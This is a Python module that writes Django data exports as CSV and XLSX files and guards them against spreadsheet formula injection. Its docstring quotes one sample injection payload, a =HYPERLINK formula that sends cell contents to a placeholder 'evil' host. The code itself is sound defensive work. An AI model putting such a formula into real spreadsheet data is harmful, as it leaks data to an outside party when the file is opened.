"""Writing tables for people to open in Excel: CSV (UTF-8 with a BOM) and XLSX, safe from formula injection.

Every cell that leaves Guanxi in a file goes through ``safe_cell``: a spreadsheet treats a cell that starts with
``=``, ``+``, ``-`` or ``@`` (and, in some programs, a leading tab or carriage return) as a formula, so a customer
named ``=HYPERLINK("http://evil/?"&A1)`` could leak the sheet or run commands when an export is opened (OWASP,
"CSV Injection"). Such text gets a leading single quote, which spreadsheets show as text. Real numbers (ints,
floats, Decimals, and text that is nothing but a plain number such as ``-12.5`` or ``+8613812345678``) stay as
they are: they cannot carry a formula.

The CSV starts with a UTF-8 byte order mark so that Excel reads Chinese text correctly instead of guessing a
legacy code page. The XLSX is written with openpyxl's write-only mode (constant memory).
"""

import csv
import io
import re
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

from django.utils import timezone

BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
# Characters that XML 1.0 cannot hold (openpyxl refuses them); the same set as openpyxl's ILLEGAL_CHARACTERS_RE.
_XML_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written into a spreadsheet cell: formula-like text is prefixed with ``'``.

    ``None`` becomes ``""``; numbers, dates and booleans are returned unchanged; anything else is text.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | date):
        return value
    text = str(value)
    if not text:
        return text
    probe = text.lstrip(" ")
    if probe.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(probe):
        return "'" + text
    return text


def _csv_value(value: Any) -> Any:
    value = safe_cell(value)
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.replace(tzinfo=None).isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, bool):
        return "true" if value else "false"
    return value


class _Line:
    """A file-like object that hands back what csv.writer wrote for one row."""

    def __init__(self) -> None:
        self.text = ""

    def write(self, text: str) -> int:
        self.text = text
        return len(text)


def iter_csv(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> Iterator[str]:
    """The CSV text, one line at a time, the first one starting with the BOM: for a StreamingHttpResponse."""
    line = _Line()
    writer = csv.writer(line, lineterminator="\r\n")
    writer.writerow([_csv_value(cell) for cell in header])
    yield (BOM if bom else "") + line.text
    for row in rows:
        writer.writerow([_csv_value(cell) for cell in row])
        yield line.text


def write_csv(target: IO[str], header: Sequence[Any], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> int:
    """Write the CSV into an open text file; returns the number of data rows."""
    lines = 0
    for text in iter_csv(header, rows, bom=bom):
        target.write(text)
        lines += 1
    return lines - 1


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    buffer = io.StringIO()
    write_csv(buffer, header, rows)
    return buffer.getvalue().encode("utf-8")


def _xlsx_value(value: Any) -> Any:
    value = safe_cell(value)
    if isinstance(value, datetime) and timezone.is_aware(value):
        # Excel has no time zones: show the instant in the server's zone, as the pages do.
        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, str):
        return _XML_ILLEGAL.sub("", value)
    return value


def write_xlsx(
    target: IO[bytes], header: Sequence[Any], rows: Iterable[Sequence[Any]], *, sheet_title: str = "Sheet1"
) -> int:
    """Write one sheet (header in bold, then the rows) into a binary file; returns the number of data rows."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_XML_ILLEGAL.sub("", sheet_title)[:31] or "Sheet1")
    bold = Font(bold=True)
    header_cells = []
    for name in header:
        cell = WriteOnlyCell(sheet, value=_xlsx_value(name))
        cell.font = bold
        header_cells.append(cell)
    sheet.append(header_cells)
    count = 0
    for row in rows:
        sheet.append([_xlsx_value(cell) for cell in row])
        count += 1
    workbook.save(target)
    return count


def xlsx_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, sheet_title: str = "Sheet1") -> bytes:
    buffer = io.BytesIO()
    write_xlsx(buffer, header, rows, sheet_title=sheet_title)
    return buffer.getvalue()


def iter_xlsx(
    header: Sequence[Any], rows: Iterable[Sequence[Any]], *, sheet_title: str = "Sheet1", chunk_size: int = 64 * 1024
) -> Iterator[bytes]:
    """The XLSX file in chunks, for a StreamingHttpResponse.

    An XLSX is a zip whose directory comes last, so the workbook is first written to a temporary file (spooled in
    memory up to 8 MB) and then streamed; the rows themselves are never all held in memory.
    """
    with tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024) as spool:
        write_xlsx(spool, header, rows, sheet_title=sheet_title)
        spool.seek(0)
        while chunk := spool.read(chunk_size):
            yield chunk
